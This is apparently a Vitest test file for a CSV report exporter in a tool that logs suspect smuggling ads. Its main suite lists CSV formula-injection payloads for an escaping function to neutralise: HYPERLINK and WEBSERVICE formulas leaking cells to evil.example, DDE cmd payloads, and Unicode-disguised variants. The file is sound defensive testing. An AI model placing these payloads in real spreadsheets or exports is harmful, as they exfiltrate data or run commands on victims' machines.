import { describe, expect, it } from 'vitest';
import { buildCsv, buildCsvBytes, CSV_COLUMNS, isRiskyCell, neutraliseCell, revealControls } from '../../../src/reports/csv';
import { arabicItem, createItem, hebrewItem, persianDocumentsItem } from './fixtures';

/** Minimal RFC 4180 parser (quoted fields, doubled quotes, CRLF record separator). */
function parseCsv(s: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < s.length) {
    expect(s[i]).toBe('"'); // every field is quoted
    i++;
    let field = '';
    for (;;) {
      const q = s.indexOf('"', i);
      if (q < 0) throw new Error('unterminated field');
      field += s.slice(i, q);
      if (s[q + 1] === '"') {
        field += '"';
        i = q + 2;
      } else {
        i = q + 1;
        break;
      }
    }
    row.push(field);
    if (s[i] === ',') i++;
    else if (s.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else if (i < s.length) throw new Error(`unexpected ${JSON.stringify(s[i])} at ${i}`);
  }
  if (row.length) rows.push(row);
  return rows;
}

describe('formula-injection neutralisation', () => {
  // [label, cell, risky]
  const corpus: [string, string, boolean][] = [
    ['equals', '=1+1', true],
    ['plus', '+1+1', true],
    ['minus', '-2+3', true],
    ['at', '@SUM(A1:A2)', true],
    ['HYPERLINK', '=HYPERLINK("http://evil.example/?x="&A1,"click")', true],
    ['WEBSERVICE', '=WEBSERVICE("http://evil.example/"&A1)', true],
    ['DDE cmd', "=cmd|' /C calc'!A0", true],
    ['DDE via plus', "+cmd|' /C notepad'!A0", true],
    ['DDE via at', "@cmd|' /C calc'!A0", true],
    ['tab prefix', '\t=1+1', true],
    ['CR prefix', '\r=1+1', true],
    ['LF prefix', '\n=1+1', true],
    ['NUL prefix', '\0abc', true],
    ['tab alone before text', '\tplain', true],
    // The three PapaParse escapeFormulae misses (security-and-reliability.md V14):
    ['PapaParse miss: multi-line', '=HYPERLINK("http://evil.example")\nline2', true],
    ['PapaParse miss: leading space', ' =1+1', true],
    ['PapaParse miss: full-width equals', '＝1+1', true],
    ['leading spaces and tabs', '  \t  +1', true],
    ['full-width plus', '＋44 20 7946 0000', true],
    ['full-width minus', '－1', true],
    ['full-width at', '＠SUM(1)', true],
    ['small-form equals', '﹦1+1', true],
    ['minus sign U+2212', '−1', true],
    ['NBSP then equals', '\u00A0=1', true],
    ['zero-width then equals', '\u200B=1', true],
    ['BOM then equals', '\uFEFF=1', true],
    ['RLO then equals', '\u202E=1+1', true],
    ['phone number', '+44 7700 900123', true],
    ['plain text', 'Boat to Italy', false],
    ['number', '0.91', false],
    ['equals later', 'a=1', false],
    ['url', 'https://example.com/?a=1', false],
    ['empty', '', false],
    ['arabic', 'رحلات بحرية', false],
    ['multi-line safe start', 'hello\n=1+1', false],
  ];
  it.each(corpus)('%s', (_label, cell, risky) => {
    expect(isRiskyCell(cell)).toBe(risky);
    expect(neutraliseCell(cell)).toBe(risky ? `'${cell}` : cell);
  });

  it('keeps phone numbers readable: only a leading quote is added', () => {
    expect(neutraliseCell('+218 91 234 5678')).toBe("'+218 91 234 5678");
  });

  it('neutralises every risky column in a row and lists them in escapedColumns', () => {
    const item = createItem({
      text: '=HYPERLINK("http://evil.example/?leak="&A1)\nsecond line',
      note: ' @SUM(1,2)',
      tags: ['-danger'],
      author: { name: '＝cmd|\' /C calc\'!A0', handle: '+447700900123' },
      reasons: ['\t=1+1'],
    });
    const [header, row] = parseCsv(buildCsv([item]).slice(1));
    const get = (col: string) => row![header!.indexOf(col)]!;
    expect(get('text')).toBe(`'${item.text}`);
    expect(get('note')).toBe(`' @SUM(1,2)`);
    expect(get('tags')).toBe(`'-danger`);
    expect(get('author.name')).toBe(`'＝cmd|' /C calc'!A0`);
    expect(get('author.handle')).toBe(`'+447700900123`);
    expect(get('reasons')).toBe(`'\t=1+1`);
    expect(get('escapedColumns').split('; ').toSorted()).toEqual(['author.handle', 'author.name', 'note', 'reasons', 'tags', 'text', 'textRevealed'].toSorted());
    // Hashes refer to the raw record, not the escaped cell.
    expect(get('textSha256')).toBe(item.evidence.textSha256);
  });
});

describe('CSV format', () => {
  it('starts with a UTF-8 BOM, quotes every field, ends records with CRLF', () => {
    const csv = buildCsv([createItem(), arabicItem()]);
    expect(csv.startsWith('\uFEFF"id","capturedAt"')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const bytes = buildCsvBytes([createItem()]);
    expect(Array.from(bytes.subarray(0, 3))).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parseCsv(csv.slice(1));
    expect(rows).toHaveLength(3);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    for (const r of rows) expect(r).toHaveLength(CSV_COLUMNS.length);
  });

  it('fills every column from the item', () => {
    const item = createItem({ status: 'reported', report: { reportedAt: '2025-05-31T10:00:00.000Z', reference: 'FB-889', channel: 'DSA form' } });
    const [header, row] = parseCsv(buildCsv([item]).slice(1));
    const rec = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
    expect(rec).toMatchObject({
      id: item.id,
      capturedAt: '2025-05-30T08:15:42.123Z',
      platform: 'facebook',
      url: item.url,
      permalink: item.permalink,
      'author.name': 'Safe Travel Europe',
      'author.handle': 'safetravel.eu',
      'author.url': 'https://www.facebook.com/safetravel.eu',
      lang: 'en',
      verdict: 'suspect',
      score: '0.91',
      categories: 'transport; route; urgency; price; guarantee; contact; phone',
      matchedTerms: 'boat; route:LY>IT; last 5 places; price; pay on arrival; whatsapp; phone:intl',
      reasons: 'offer + route + price + contact; pay on arrival',
      status: 'reported',
      reportedAt: '2025-05-31T10:00:00.000Z',
      reference: 'FB-889',
      note: item.note,
      tags: 'central-med; priority',
      textSha256: item.evidence.textSha256,
      screenshotSha256: item.evidence.screenshotSha256,
      text: item.text,
      escapedColumns: '',
    });
  });

  it('escapes embedded quotes and keeps line breaks inside the cell', () => {
    const item = createItem({ text: 'He said "go now"\nline 2\r\nline 3, done' });
    const csv = buildCsv([item]);
    expect(csv).toContain('"He said ""go now""\nline 2\r\nline 3, done"');
    const [header, row] = parseCsv(csv.slice(1));
    expect(row![header!.indexOf('text')]).toBe(item.text);
  });

  it('keeps bidi text byte-for-byte (Arabic, Hebrew, RLO, LRI/PDI)', () => {
    const items = [arabicItem(), hebrewItem(), persianDocumentsItem()];
    const csv = buildCsv(items);
    const [header, ...rows] = parseCsv(csv.slice(1));
    items.forEach((item, i) => {
      const cell = rows[i]![header!.indexOf('text')]!;
      expect(Buffer.from(cell, 'utf8').equals(Buffer.from(item.text, 'utf8'))).toBe(true);
      expect(rows[i]![header!.indexOf('author.name')]).toBe(item.author.name);
    });
    // The RLO and isolate controls are present raw in `text` and revealed in `textRevealed`.
    const fa = rows[2]!;
    expect(fa[header!.indexOf('text')]).toContain('\u202Egnp.exe');
    expect(fa[header!.indexOf('textRevealed')]).toContain('⟦U+202E⟧gnp.exe');
    expect(fa[header!.indexOf('textRevealed')]).toContain('⟦U+2066⟧@docs_fast⟦U+2069⟧');
    expect(fa[header!.indexOf('textRevealed')]).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
  });

  it('revealControls leaves ordinary text alone', () => {
    expect(revealControls('plain עברית عربي')).toBe('plain עברית عربي');
    expect(revealControls('a\u200Bb')).toBe('a⟦U+200B⟧b');
  });

  it('writes only the header for no items', () => {
    expect(parseCsv(buildCsv([]).slice(1))).toEqual([[...CSV_COLUMNS]]);
  });
});
